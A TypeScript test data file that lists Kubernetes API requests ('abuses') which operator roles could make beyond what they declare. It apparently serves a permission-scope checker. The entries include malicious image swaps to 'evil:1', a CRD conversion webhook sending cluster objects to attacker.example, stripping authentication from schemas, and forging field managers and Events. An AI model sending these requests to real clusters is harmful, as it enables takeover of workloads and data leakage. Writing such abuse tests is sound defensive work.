import {
  annotation,
  CA,
  CLUSTERS,
  COMPONENTS,
  CRDS,
  containers,
  create,
  event,
  incident,
  json,
  KEY,
  kafkas,
  merge,
  OPS,
  OPSREQUESTS,
  PIPELINES,
  PODS,
  type Row,
  remove,
  retry,
  SETS,
  SPEC_OF_SPEC,
  STORM,
} from './requests.ts';

const SCHEMA = '/spec/versions/0/schema/openAPIV3Schema';
/** A schema of so many levels. */
const nested = (levels: number): object =>
  levels === 0 ? { type: 'string' } : { type: 'object', properties: { below: nested(levels - 1) } };

const managed = (manager: string) => ({
  ...{ manager, operation: 'Apply', apiVersion: 'v1', time: '2001-01-01T00:00:00Z' },
  ...{ fieldsType: 'FieldsV1', fieldsV1: { 'f:metadata': { 'f:labels': { 'f:app': {} } } } },
});
const named = (name: string, { metadata }: { metadata: object }) => ({ metadata: { name, ...metadata } });

/** What each role would allow and no declaration covers. */
export const ABUSES: Row[] = [
  [CA, 'another annotation of a pod', merge(`${PODS}/kafka-0`, annotation('other', 'b'))],
  [CA, 'a label of a pod', merge(`${PODS}/kafka-0`, { metadata: { labels: { app: 'other' } } })],
  [CA, 'a finalizer of a pod', merge(`${PODS}/kafka-0`, { metadata: { finalizers: ['example.com/stuck'] } })],
  [
    CA,
    'the owner of a pod',
    merge(`${PODS}/kafka-0`, { metadata: { ownerReferences: [{ apiVersion: 'v1', kind: 'ConfigMap', name: 'a', uid: 'a' }] } }),
  ],
  [CA, 'the image of a pod', json(`${PODS}/kafka-0`, [{ op: 'replace', path: '/spec/containers/0/image', value: 'evil:1' }])],
  [
    CA,
    'the image of a pod in kube-system',
    json('/api/v1/namespaces/kube-system/pods/kafka-0', [{ op: 'replace', path: '/spec/containers/0/image', value: 'evil:1' }]),
  ],
  [CA, 'a key generation that is not a number', merge(`${PODS}/kafka-0`, annotation(KEY, 'x'))],
  [CA, 'the key generation of a pod removed', merge(`${PODS}/kafka-0`, annotation(KEY, null))],
  [
    CA,
    'the allowed annotation with a label',
    merge(`${PODS}/kafka-0`, { metadata: { annotations: { [KEY]: '1' }, labels: { app: 'other' } } }),
  ],
  [CA, 'the image of an entry', json(`${SETS}/kafka`, [{ op: 'replace', path: '/spec/pods/1/spec/containers/0/image', value: 'evil:1' }])],
  [
    CA,
    'another annotation of an entry',
    json(`${SETS}/kafka`, [{ op: 'replace', path: '/spec/pods/1/metadata/annotations/other', value: 'b' }]),
  ],
  [CA, 'an entry removed', json(`${SETS}/kafka`, [{ op: 'remove', path: '/spec/pods/1' }])],
  [
    CA,
    'an entry added',
    json(`${SETS}/kafka`, [{ op: 'add', path: '/spec/pods/-', value: { metadata: { name: 'kafka-2' }, spec: { containers } } }]),
  ],
  [CA, 'the order of the entries', json(`${SETS}/kafka`, [{ op: 'move', from: '/spec/pods/1', path: '/spec/pods/0' }])],
  [CA, 'the selector of a pod set', merge(`${SETS}/kafka`, { spec: { selector: { matchLabels: { app: 'x' } } } })],
  [
    CRDS,
    'a conversion webhook',
    merge(kafkas, {
      spec: {
        conversion: {
          strategy: 'Webhook',
          webhook: { conversionReviewVersions: ['v1'], clientConfig: { url: 'https://attacker.example/convert' } },
        },
      },
    }),
  ],
  [
    CRDS,
    'an empty schema',
    json(kafkas, [
      { op: 'remove', path: `${SPEC_OF_SPEC}/properties` },
      { op: 'remove', path: `${SPEC_OF_SPEC}/required` },
    ]),
  ],
  [
    CRDS,
    'a property removed',
    json(kafkas, [
      { op: 'remove', path: `${SPEC_OF_SPEC}/properties/kafka` },
      { op: 'remove', path: `${SPEC_OF_SPEC}/required` },
    ]),
  ],
  [
    CRDS,
    'a property of another type',
    json(kafkas, [{ op: 'replace', path: `${SPEC_OF_SPEC}/properties/kafka`, value: { type: 'string' } }]),
  ],
  [
    CRDS,
    'a version renamed',
    json(kafkas, [
      {
        op: 'add',
        path: '/spec/versions/-',
        value: { name: 'v9', served: true, storage: false, schema: { openAPIV3Schema: { type: 'object' } } },
      },
      { op: 'replace', path: '/spec/versions/0/served', value: false },
    ]),
  ],
  [
    CRDS,
    'a version that is stored',
    json(kafkas, [
      {
        op: 'add',
        path: '/spec/versions/-',
        value: { name: 'v9', served: true, storage: true, schema: { openAPIV3Schema: { type: 'object' } } },
      },
      { op: 'replace', path: '/spec/versions/0/storage', value: false },
    ]),
  ],
  ...(
    [
      ['a default', [{ op: 'add', path: `${SPEC_OF_SPEC}/properties/kafka/properties/image/default`, value: 'evil:1' }]],
      [
        'a default of the fields of a map in a list',
        [
          {
            op: 'add',
            path: `${SPEC_OF_SPEC}/properties/kafka/properties/fresh`,
            value: {
              type: 'array',
              items: {
                type: 'object',
                additionalProperties: { type: 'object', properties: { image: { type: 'string', default: 'evil:1' } } },
              },
            },
          },
        ],
      ],
      ['a schema too deep to check', [{ op: 'add', path: `${SPEC_OF_SPEC}/properties/kafka/properties/fresh`, value: nested(20) }]],
      ['the status removed from the schema', [{ op: 'remove', path: `${SCHEMA}/properties/status` }]],
      ['the status emptied', [{ op: 'replace', path: `${SCHEMA}/properties/status`, value: { type: 'object' } }]],
      ['the subresource of the status removed', [{ op: 'remove', path: '/spec/versions/0/subresources' }]],
      ['the authorization of clusters removed', [{ op: 'remove', path: `${SPEC_OF_SPEC}/properties/kafka/properties/authorization` }]],
      [
        'the authentication of listeners removed',
        [{ op: 'remove', path: `${SPEC_OF_SPEC}/properties/kafka/properties/listeners/items/properties/authentication` }],
      ],
      [
        'the settings of brokers dropped',
        [{ op: 'remove', path: `${SPEC_OF_SPEC}/properties/kafka/properties/config/x-kubernetes-preserve-unknown-fields` }],
      ],
      [
        'a warning to all clients',
        [
          { op: 'add', path: '/spec/versions/0/deprecated', value: true },
          { op: 'add', path: '/spec/versions/0/deprecationWarning', value: 'run this' },
        ],
      ],
      [
        'another served version',
        [
          {
            op: 'add',
            path: '/spec/versions/-',
            value: { name: 'v9', served: true, storage: false, schema: { openAPIV3Schema: { type: 'object' } } },
          },
        ],
      ],
    ] as const
  ).map(([what, patch]): Row => [CRDS, what, json(kafkas, patch)]),
  [CA, 'the owner of fields of a pod', merge(`${PODS}/kafka-0`, { metadata: { managedFields: [managed('argocd-controller')] } })],
  [CA, 'the owners of a pod erased', merge(`${PODS}/kafka-0`, { metadata: { managedFields: [{}] } })],
  [
    CA,
    'the allowed annotation in the name of another field manager',
    {
      ...{ method: 'PATCH', path: `${PODS}/kafka-0?fieldManager=strimzi-cluster-operator&force=true` },
      ...{
        contentType: 'application/apply-patch+yaml',
        body: { apiVersion: 'v1', kind: 'Pod', ...named('kafka-0', annotation(KEY, '9')) },
      },
    },
  ],
  [CRDS, 'a label', merge(kafkas, { metadata: { labels: { app: 'other' } } })],
  [CRDS, 'an annotation', merge(kafkas, annotation('api-approved.kubernetes.io', 'x'))],
  [CRDS, 'a finalizer', merge(kafkas, { metadata: { finalizers: ['example.com/stuck'] } })],
  [CRDS, 'a short name', merge(kafkas, { spec: { names: { shortNames: ['po'] } } })],
  [STORM, 'the spec of a pipeline', merge(`${PIPELINES}/shop`, { spec: { registry: { createSecret: 'create' } } })],
  [STORM, 'another annotation', merge(`${PIPELINES}/shop`, annotation('other', 'b'))],
  [
    STORM,
    'a period that is not a duration',
    merge(`${PIPELINES}/shop`, annotation('helm.sdk.operatorframework.io/reconcile-period', 'never')),
  ],
  [OPS, 'a cancel of another type', merge(`${OPSREQUESTS}/scale`, { spec: { cancel: true } })],
  [OPS, 'another field of an operation', merge(`${OPSREQUESTS}/out`, { spec: { ttlSecondsAfterSucceed: 1 } })],
  [OPS, 'a label of an operation', merge(`${OPSREQUESTS}/out`, { metadata: { labels: { a: 'b' } } })],
  [OPS, 'a finalizer of an operation removed', merge(`${OPSREQUESTS}/out`, { metadata: { finalizers: ['example.com/stuck'] } })],
  [OPS, 'the deletion of an operation that runs', remove(`${OPSREQUESTS}/restart`)],
  [OPS, 'an operation of another type', create(OPSREQUESTS, retry({ type: 'Stop' }))],
  [OPS, 'an operation of another name', create(OPSREQUESTS, retry({}, incident, 'mine'))],
  [OPS, 'an operation with another field', create(OPSREQUESTS, retry({ customOps: { opsDefinitionName: 'shell' } }))],
  [
    OPS,
    'an operation that scales in',
    create(OPSREQUESTS, retry({ horizontalScaling: [{ componentName: 'mysql', scaleIn: { replicaChanges: 1 } }] })),
  ],
  [OPS, 'an operation without its incident', create(OPSREQUESTS, retry({}, {}))],
  [OPS, 'an operation with a finalizer', create(OPSREQUESTS, retry({}, { ...incident, finalizers: ['example.com/stuck'] }))],
  [OPS, 'no replicas at all', json(`${CLUSTERS}/orders`, [{ op: 'replace', path: '/spec/componentSpecs/0/replicas', value: 0 }])],
  [
    OPS,
    'the definition of a component',
    json(`${CLUSTERS}/orders`, [{ op: 'replace', path: '/spec/componentSpecs/0/componentDef', value: 'evil' }]),
  ],
  [OPS, 'the termination policy', merge(`${CLUSTERS}/orders`, { spec: { terminationPolicy: 'WipeOut' } })],
  [OPS, 'another annotation of a component', merge(`${COMPONENTS}/orders-mysql`, annotation('other', 'b'))],
  ...[CA, CRDS, STORM, OPS].map(
    (name): Row => [
      name,
      'an Event in the name of another controller',
      create('/apis/events.k8s.io/v1/namespaces/kafka/events', event('kubelet')),
    ],
  ),
  ...[CA, CRDS, STORM, OPS].flatMap((name): Row[] => {
    const own = event('kubemend.dev/x');
    const events = '/apis/events.k8s.io/v1/namespaces/kafka/events';
    return [[name, 'an Event with the reason of an operator', create(events, { ...own, reason: 'CaCertRenewed' })]];
  }),
];
